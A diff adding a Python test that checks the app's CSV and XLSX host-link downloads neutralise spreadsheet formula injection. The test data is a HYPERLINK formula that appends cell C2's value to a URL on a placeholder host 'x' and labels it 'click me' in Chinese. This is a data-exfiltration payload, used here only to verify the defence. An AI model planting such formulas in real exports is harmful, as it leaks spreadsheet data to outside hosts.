@@ -134,3 +134,18 @@ def test_another_organisation_sees_none_of_the_links(app, mcn):  # noqa: F811
     with app.app_context():
         import_id = get_session().scalar(select(HostImport.id))  # mcn-a's import: not one of mcn-b's
     assert other.get(f"/orgs/mcn-b/hosts/first-links.csv?import={import_id}").status_code == 404
+
+
+def test_a_name_written_as_a_formula_stays_text_in_both_downloads(app, mcn):  # noqa: F811
+    confirm(mcn, upload(mcn, GOOD_CSV.encode()).get_data(as_text=True))
+    formula = '=HYPERLINK("http://x/?"&C2,"点我")'
+    with app.app_context():
+        session = get_session()
+        session.scalar(select(User).where(User.phone == "13900139000")).display_name = formula
+        session.commit()
+    rows = csv_rows(mcn.get("/orgs/mcn-a/hosts/first-links.csv").data)
+    assert "'" + formula in [row[0] for row in rows]
+    book = load_workbook(io.BytesIO(mcn.get("/orgs/mcn-a/hosts/first-links.xlsx").data))
+    cells = [row[0] for row in book.active.iter_rows()]
+    cell = next(c for c in cells if c.value == formula)
+    assert cell.data_type == "s" and cell.quotePrefix
